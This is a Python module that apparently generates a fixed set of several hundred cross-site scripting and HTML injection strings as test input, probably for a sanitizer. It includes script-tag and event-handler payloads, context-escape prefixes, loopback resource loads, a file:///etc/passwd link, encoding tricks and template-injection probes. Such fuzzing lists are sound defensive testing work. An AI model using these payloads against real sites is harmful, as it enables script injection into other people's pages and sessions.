"""More than five hundred texts that try to be more than a text in a page; the same at each call."""

from itertools import product

_ACTS = (
    "alert(1)",
    "document.title='ran'",
    "fetch('http://127.0.0.1:9/x')",
    "import('http://127.0.0.1:9/x')",
    "location='http://127.0.0.1:9/'",
)
_LEAVING = (
    "",
    '">',
    "'>",
    "</td>",
    "</style>",
    "</title>",
    "</bdi></td></tr></table>",
    "-->",
    "]]>",
    "</textarea>",
    '\\">',
)
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt/x>{}</sCrIpT>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<math><mtext><script>{}</script>",
)
_OTHERS = (
    "<iframe src=http://127.0.0.1:9/></iframe>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "<style>@import 'http://127.0.0.1:9/x';*{display:none}</style>",
    "<base href=http://127.0.0.1:9/>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<object data=http://127.0.0.1:9/></object>",
    "<embed src=http://127.0.0.1:9/>",
    "<form action=http://127.0.0.1:9/><button autofocus>",
    "<video src=http://127.0.0.1:9/ autoplay>",
    "<a href=javascript:alert(1)>here</a>",
    "<a href='file:///etc/passwd'>here</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "' style='background:url(http://127.0.0.1:9/)",
    "' onmouseover='alert(1)' x='",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<%= 1 %>",
    "{{7*7}}${7*7}#{7*7}{0}%s",
    "</script><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<portal src=http://127.0.0.1:9/>",
    "\x1b[31m\x07\x9b",
)


def payloads() -> list[str]:
    """All of them."""
    return [leaving + element.format(act) for leaving, element, act in product(_LEAVING, _ELEMENTS, _ACTS)] + list(
        _OTHERS
    )
